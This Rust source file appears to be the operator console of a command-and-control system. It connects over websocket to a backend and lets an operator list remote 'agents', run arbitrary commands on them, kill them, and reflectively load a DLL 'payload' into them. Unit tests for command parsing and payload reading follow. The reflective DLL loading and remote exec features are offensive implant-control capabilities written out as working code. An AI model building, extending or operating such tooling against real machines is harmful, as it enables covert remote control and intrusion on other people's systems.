//! Agent Console
//!
//! Headless operator console for the agent management backend. Connects
//! over websocket, keeps the shared dashboard state up to date and reads
//! operator commands from stdin, one per line.

use agent_console::config::Config;
use agent_console::transport::WsConnector;
use agent_console::Console;
use anyhow::{bail, Context};
use std::path::{Path, PathBuf};
use tokio::io::{AsyncBufReadExt, BufReader};
use tracing::{error, info};

const HELP: &str = "\
commands:
  connect [url]                     connect (or reconnect) to the server
  disconnect                        close the connection
  agents                            list agents
  refresh                           ask the server for the agent list
  exec <agent> <command...>         run a command on an agent
  ping <agent>                      ping an agent
  kill <agent>                      kill an agent
  group <agent> <group>             assign an agent to a group
  load <agent> <dll> <function>     reflectively load a DLL on an agent
  history                           show command history
  notifications                     show notifications
  clear                             dismiss all notifications
  help                              show this help
  quit                              exit";

/// One line of operator input
#[derive(Debug, Clone, PartialEq)]
enum OperatorCommand {
    Connect(Option<String>),
    Disconnect,
    Agents,
    Refresh,
    Exec { agent: String, command: String },
    Ping(String),
    Kill(String),
    Group { agent: String, group: String },
    Load { agent: String, path: PathBuf, function: String },
    History,
    Notifications,
    Clear,
    Help,
    Quit,
}

/// Parse a line of input
/// Returns `Ok(None)` for blank lines
fn parse_command(line: &str) -> anyhow::Result<Option<OperatorCommand>> {
    let line = line.trim();
    let Some((verb, rest)) = split_word(line) else {
        return Ok(None);
    };

    let command = match verb {
        "connect" => OperatorCommand::Connect(split_word(rest).map(|(url, _)| url.to_string())),
        "disconnect" => OperatorCommand::Disconnect,
        "agents" => OperatorCommand::Agents,
        "refresh" => OperatorCommand::Refresh,
        "exec" => match split_word(rest) {
            Some((agent, command)) if !command.is_empty() => OperatorCommand::Exec {
                agent: agent.to_string(),
                command: command.to_string(),
            },
            _ => bail!("usage: exec <agent> <command...>"),
        },
        "ping" => OperatorCommand::Ping(single_arg(rest, "usage: ping <agent>")?),
        "kill" => OperatorCommand::Kill(single_arg(rest, "usage: kill <agent>")?),
        "group" => {
            let args: Vec<&str> = rest.split_whitespace().collect();
            let [agent, group] = args[..] else {
                bail!("usage: group <agent> <group>");
            };
            OperatorCommand::Group {
                agent: agent.to_string(),
                group: group.to_string(),
            }
        }
        "load" => {
            let args: Vec<&str> = rest.split_whitespace().collect();
            let [agent, path, function] = args[..] else {
                bail!("usage: load <agent> <dll> <function>");
            };
            OperatorCommand::Load {
                agent: agent.to_string(),
                path: PathBuf::from(path),
                function: function.to_string(),
            }
        }
        "history" => OperatorCommand::History,
        "notifications" => OperatorCommand::Notifications,
        "clear" => OperatorCommand::Clear,
        "help" | "?" => OperatorCommand::Help,
        "quit" | "exit" => OperatorCommand::Quit,
        other => bail!("unknown command '{}', try 'help'", other),
    };
    Ok(Some(command))
}

fn split_word(input: &str) -> Option<(&str, &str)> {
    let input = input.trim_start();
    if input.is_empty() {
        return None;
    }
    match input.split_once(char::is_whitespace) {
        Some((word, rest)) => Some((word, rest.trim())),
        None => Some((input, "")),
    }
}

fn single_arg(rest: &str, usage: &str) -> anyhow::Result<String> {
    let args: Vec<&str> = rest.split_whitespace().collect();
    match args[..] {
        [arg] => Ok(arg.to_string()),
        _ => bail!("{}", usage),
    }
}

/// Read a DLL image from disk
async fn read_payload(path: &Path) -> anyhow::Result<Vec<u8>> {
    let bytes = tokio::fs::read(path)
        .await
        .with_context(|| format!("Failed to read payload {}", path.display()))?;
    if bytes.is_empty() {
        bail!("Payload {} is empty", path.display());
    }
    Ok(bytes)
}

async fn run_command(
    console: &mut Console,
    config: &Config,
    command: OperatorCommand,
) -> anyhow::Result<()> {
    // Send failures are reported here; the console stays quiet about them
    let report = |sent: bool| {
        if !sent {
            println!("not sent: not connected");
        }
    };

    match command {
        OperatorCommand::Connect(url) => {
            let url = url.unwrap_or_else(|| config.connection.ws_url.clone());
            console.connect(&url)?;
        }
        OperatorCommand::Disconnect => console.disconnect(),
        OperatorCommand::Agents => {
            println!("{} ({} agents)", console.connection_state().as_str(), console.agents().len());
            for agent in console.agents() {
                let last_seen = agent
                    .last_seen
                    .map(|t| t.format("%Y-%m-%d %H:%M:%S").to_string())
                    .unwrap_or_else(|| "-".to_string());
                println!(
                    "  {:<20} {:<15} {:<10} {:<12} {:<12} {}",
                    agent.id, agent.ip, agent.os, agent.service, agent.status, last_seen
                );
            }
        }
        OperatorCommand::Refresh => report(console.request_agents()),
        OperatorCommand::Exec { agent, command } => {
            report(console.execute_command(&agent, &command))
        }
        OperatorCommand::Ping(agent) => report(console.ping_agent(&agent)),
        OperatorCommand::Kill(agent) => report(console.kill_agent(&agent)),
        OperatorCommand::Group { agent, group } => report(console.group_agent(&agent, &group)),
        OperatorCommand::Load {
            agent,
            path,
            function,
        } => {
            let payload = read_payload(&path).await?;
            info!(agent = %agent, bytes = payload.len(), "Sending reflective load");
            report(console.execute_reflective_loading(&agent, &payload, &function));
        }
        OperatorCommand::History => {
            for entry in console.command_history() {
                let status = if entry.success { "ok" } else { "failed" };
                let when = match (entry.time(), &entry.timestamp) {
                    (Some(t), _) => t.format("%Y-%m-%d %H:%M:%S").to_string(),
                    (None, Some(raw)) => raw.to_string(),
                    (None, None) => "-".to_string(),
                };
                println!(
                    "  {} [{}] {} $ {}",
                    when, status, entry.agent_id, entry.command
                );
                if let Some(output) = entry.output.as_deref().filter(|o| !o.is_empty()) {
                    for line in output.lines() {
                        println!("      {}", line);
                    }
                }
                if let Some(error) = &entry.error {
                    println!("      error: {}", error);
                }
            }
        }
        OperatorCommand::Notifications => {
            for notification in console.notifications() {
                println!(
                    "  {} {:<8} {}",
                    notification.created_at.format("%H:%M:%S"),
                    notification.kind.title(),
                    notification.message
                );
            }
        }
        OperatorCommand::Clear => console.clear_notifications(),
        OperatorCommand::Help => println!("{}", HELP),
        OperatorCommand::Quit => {}
    }
    Ok(())
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    // Initialize tracing
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    // Load configuration
    let config = Config::from_env();
    info!("Configuration loaded: {:?}", config);

    let (connector, mut events) = WsConnector::new();
    let mut console = Console::new(&config, Box::new(connector));
    console.connect(&config.connection.ws_url)?;

    let mut lines = BufReader::new(tokio::io::stdin()).lines();
    loop {
        tokio::select! {
            Some(event) = events.recv() => console.handle_event(event),
            line = lines.next_line() => {
                let Some(line) = line.context("Failed to read stdin")? else {
                    break;
                };
                match parse_command(&line) {
                    Ok(Some(OperatorCommand::Quit)) => break,
                    Ok(Some(command)) => {
                        if let Err(e) = run_command(&mut console, &config, command).await {
                            error!("{:#}", e);
                        }
                    }
                    Ok(None) => {}
                    Err(e) => println!("{}", e),
                }
            }
        }
    }

    console.disconnect();
    info!("Console exiting");
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    #[test]
    fn test_parse_blank_line() {
        assert_eq!(parse_command("   ").unwrap(), None);
    }

    #[test]
    fn test_parse_exec_keeps_command_line() {
        assert_eq!(
            parse_command("exec a1 ls -la /tmp").unwrap(),
            Some(OperatorCommand::Exec {
                agent: "a1".to_string(),
                command: "ls -la /tmp".to_string(),
            })
        );
        assert!(parse_command("exec a1").is_err());
    }

    #[test]
    fn test_parse_connect_with_and_without_url() {
        assert_eq!(
            parse_command("connect").unwrap(),
            Some(OperatorCommand::Connect(None))
        );
        assert_eq!(
            parse_command("connect ws://10.0.0.1:8080/ws").unwrap(),
            Some(OperatorCommand::Connect(Some("ws://10.0.0.1:8080/ws".to_string())))
        );
    }

    #[test]
    fn test_parse_argument_counts() {
        assert_eq!(
            parse_command("ping a1").unwrap(),
            Some(OperatorCommand::Ping("a1".to_string()))
        );
        assert!(parse_command("ping").is_err());
        assert!(parse_command("kill a1 a2").is_err());
        assert_eq!(
            parse_command("group a1 web").unwrap(),
            Some(OperatorCommand::Group {
                agent: "a1".to_string(),
                group: "web".to_string(),
            })
        );
        assert!(parse_command("group a1").is_err());
        assert_eq!(
            parse_command("load a1 ./payload.dll Run").unwrap(),
            Some(OperatorCommand::Load {
                agent: "a1".to_string(),
                path: PathBuf::from("./payload.dll"),
                function: "Run".to_string(),
            })
        );
    }

    #[test]
    fn test_parse_unknown_command() {
        let err = parse_command("launch a1").unwrap_err();
        assert!(err.to_string().contains("unknown command 'launch'"));
        assert_eq!(parse_command("exit").unwrap(), Some(OperatorCommand::Quit));
    }

    #[tokio::test]
    async fn test_read_payload() {
        let mut file = tempfile::NamedTempFile::new().unwrap();
        file.write_all(b"MZ\x90\x00").unwrap();

        let bytes = read_payload(file.path()).await.unwrap();
        assert_eq!(bytes, b"MZ\x90\x00");
    }

    #[tokio::test]
    async fn test_read_payload_rejects_empty_and_missing() {
        let file = tempfile::NamedTempFile::new().unwrap();
        assert!(read_payload(file.path()).await.is_err());

        let dir = tempfile::tempdir().unwrap();
        let err = read_payload(&dir.path().join("missing.dll")).await.unwrap_err();
        assert!(err.to_string().contains("Failed to read payload"));
    }
}
